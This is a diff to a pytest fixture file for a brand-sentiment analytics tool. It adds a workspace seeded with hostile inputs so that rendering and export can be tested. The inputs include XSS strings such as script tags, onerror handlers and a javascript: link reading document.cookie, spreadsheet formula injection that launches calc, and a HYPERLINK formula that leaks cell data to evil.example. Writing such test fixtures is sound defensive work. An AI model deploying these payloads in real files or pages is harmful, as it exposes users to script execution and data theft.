@@ -45,3 +45,53 @@ def demo_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
         for spec in ("default", "vader"):
             score_workspace(con, load_model(spec, device="cpu"))
     return path
+
+
+HOSTILE_BRANDS = ('<a href="http://localhost:9/phish">ClickBrand</a>', "**Bold** [js](javascript:alert(1))",
+                  "Plain Brand")
+"""Brand names that are markup: an HTML link, markdown emphasis and a javascript: link."""
+HOSTILE_ASPECTS = ("<b>billing</b> [x](http://evil.example/a)", "=HYPERLINK(\"http://evil.example/h\")",
+                   "delivery")
+HOSTILE_TEXTS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me") awful service',
+    "+cmd|' /C calc'!A0 terrible app",
+    "-2+3 great deal, @handle loves it",
+    "@SUM(1+1) fine I guess",
+    "<img src=x onerror=alert(1)> love the new plan",
+    "see [my site](javascript:alert(document.cookie)) or www.evil.example or mail me at ana@evil.example",
+    "<script>alert('x')</script> the worst support",
+    "**bold claim** and <a href=\"http://localhost:9/phish\">a link</a>, really good",
+)
+
+
+@pytest.fixture(scope="session")
+def hostile_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A workspace whose brand names, aspects and texts carry links, markdown, HTML and formulas.
+
+    360 posts over 60 days, labelled, scored by VADER (fast), aspect topics built; ``our_brand``
+    is the HTML link. Tests must not write to it; copy it first.
+    """
+    import pandas as pd
+
+    from analytics import store
+    from analytics.brand.topics import build_topics
+    from analytics.ingest import ingest_frame
+    from analytics.models import load_model
+    from analytics.scoring.local import score_workspace
+
+    rows = []
+    for i in range(360):
+        rows.append({
+            "text": f"{HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)]} #{i}",
+            "brand": HOSTILE_BRANDS[i % len(HOSTILE_BRANDS)],
+            "time": (pd.Timestamp("2026-09-01") + pd.Timedelta(hours=4 * i)).isoformat(),
+            "label": ("negative", "neutral", "positive")[(i // 3) % 3],
+            "aspect": HOSTILE_ASPECTS[(i // 2) % len(HOSTILE_ASPECTS)],
+        })
+    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
+    with store.open_workspace(path) as con:
+        ingest_frame(con, pd.DataFrame(rows), source="hostile")
+        store.set_setting(con, "our_brand", HOSTILE_BRANDS[0])
+        score_workspace(con, load_model("vader", device="cpu"))
+        build_topics(con)
+    return path
